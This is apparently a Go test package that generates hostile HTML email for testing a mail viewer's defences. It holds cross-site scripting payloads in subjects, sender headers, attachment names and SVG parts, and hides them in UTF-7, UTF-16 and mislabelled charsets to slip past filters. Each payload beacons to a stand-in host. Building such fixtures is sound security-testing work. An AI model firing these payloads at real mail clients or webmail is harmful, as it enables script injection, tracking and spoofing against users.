// Package hostile makes mail that attacks whoever looks at it: scripts, loads from
// elsewhere, navigation and deceit, each in many carriers. It is for tests only.
// The attacks are our own, made after the classes that safety.md P17 lists.
package hostile

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

type vector struct{ name, html string }

// A Mail is one attack in one carrier.
type Mail struct {
	Name string // "svg-script in utf-16"
	Host string // of the attacker: whoever asks for it was attacked
	HTML string // the attack itself
	Raw  []byte // the message with its header, lines ended by CRLF
}

// Domain is where all of the attacker's hosts are.
const Domain = "hostile.example"

// Said is what a script that ran writes to the console.
const Said = "PWNED"

// script tells of itself in every way that a script could be noticed by.
const script = `console.log('` + Said + ` {H}');try{top.pwned='{H}'}catch(e){};try{top.document.title='` + Said + `'}catch(e){};try{parent.postMessage('` + Said + `','*')}catch(e){};new Image().src='http://{H}/script'`

// carrier puts HTML into a message: its parts from Content-Type on.
type carrier struct {
	name string
	wrap func(html, id string) string
}

var carriers = []carrier{
	{"plain", func(html, _ string) string {
		return "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + html
	}},
	{"alternative", func(html, _ string) string {
		return multipart("alternative", "Content-Type: text/plain; charset=utf-8\r\n\r\nnothing to see", encoded("utf-8", []byte(html)))
	}},
	{"related with svg", func(html, id string) string {
		svg := `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="` + script + `"><script>` + script + `</script><image href="http://` + id + `/cid"/></svg>`
		return multipart("related", encoded("utf-8", []byte("<html><body>"+html+"</body></html>")),
			"Content-Type: image/svg+xml; name=\"<img src=x onerror=alert(1)>.svg\"\r\nContent-ID: <"+id+">\r\nContent-Transfer-Encoding: base64\r\n\r\n"+lines(base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(svg, "{H}", id)))))
	}},
	{"utf-16", func(html, _ string) string {
		b := []byte{0xff, 0xfe}
		for _, u := range utf16.Encode([]rune(html)) {
			b = binary.LittleEndian.AppendUint16(b, u)
		}
		return encoded("utf-16", b)
	}},
	{"utf-7", func(html, _ string) string {
		return "Content-Type: text/html; charset=utf-7\r\n\r\n" + utf7(html)
	}},
	{"a wrong charset", func(html, _ string) string {
		return encoded("x-user-defined", []byte("<meta charset=iso-2022-jp>\x1b$B"+html+"\x1b(B"+html))
	}},
}

func encoded(charset string, b []byte) string {
	return "Content-Type: text/html; charset=" + charset + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + lines(base64.StdEncoding.EncodeToString(b))
}

func lines(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return b.String() + s
}

func multipart(kind string, parts ...string) string {
	var b strings.Builder
	b.WriteString("Content-Type: multipart/" + kind + "; boundary=\"=_edge\"\r\n\r\n")
	for _, p := range parts {
		b.WriteString("--=_edge\r\n" + p + "\r\n")
	}
	return b.String() + "--=_edge--\r\n"
}

// utf7 hides every character that HTML is made of.
func utf7(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == ' ' {
			b.WriteRune(r)
			continue
		}
		var units []byte
		for _, u := range utf16.Encode([]rune{r}) {
			units = binary.BigEndian.AppendUint16(units, u)
		}
		b.WriteString("+" + base64.RawStdEncoding.EncodeToString(units) + "-")
	}
	return b.String()
}

// Some are of each attack so many carriers, not the same ones for all.
func Some(all []Mail, each int) (some []Mail) {
	for i, m := range all {
		if (i/len(carriers)+i)%len(carriers) < each {
			some = append(some, m)
		}
	}
	return some
}

// Mails are all attacks in all carriers, each with a header and an attachment's
// name that attack the pages around the message. mark is put into each body. A third
// calls home to canary, an address and port, where somebody listens.
func Mails(mark, canary string) []Mail {
	var all []Mail
	for _, v := range vectors {
		for _, c := range carriers {
			host := fmt.Sprintf("n%d.%s", len(all), Domain)
			if canary != "" && (len(all)/len(carriers)+len(all))%3 == 0 {
				host = canary
			}
			fill := func(s string) string {
				return strings.NewReplacer("{S}", strings.ReplaceAll(script, "{H}", host), "{H}", host, "{C}", host).Replace(s)
			}
			html := fill(v.html)
			body := strings.ReplaceAll(c.wrap("<p>"+mark+"</p>"+html, host), "{H}", host)
			var b bytes.Buffer
			fmt.Fprintf(&b, "From: %s\r\nTo: <ann@contoso.example>\r\nSubject: %d %s\r\nMessage-ID: <%d.%s>\r\nX-Note: %s\r\nMIME-Version: 1.0\r\n%s\r\n",
				fill(`"<script>{S}</script>" <"<img/src=x>"@`+host+`>`), len(all), fill(subjects[len(all)%len(subjects)]), len(all), strings.Replace(host, ".", "@", 1), fill(`<img src=http://{H}/header onerror={S}>`), body)
			all = append(all, Mail{Name: v.name + " in " + c.name, Host: host, HTML: html, Raw: b.Bytes()})
		}
	}
	return all
}

// subjects attack the lists that show them.
var subjects = []string{
	`<script>{S}</script>`,
	`"><img src=x onerror={S}>`,
	`' autofocus onfocus='{S}`,
	`</title></textarea></style><svg/onload={S}>`,
	`javascript:{S}`,
	`{{"{{"}}printf "x"}} ${7*7} <%= 1 %>`,
	"=?utf-8?B?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?=",
	"\u202egnp.exe\u2066 \u200b<b>",
}
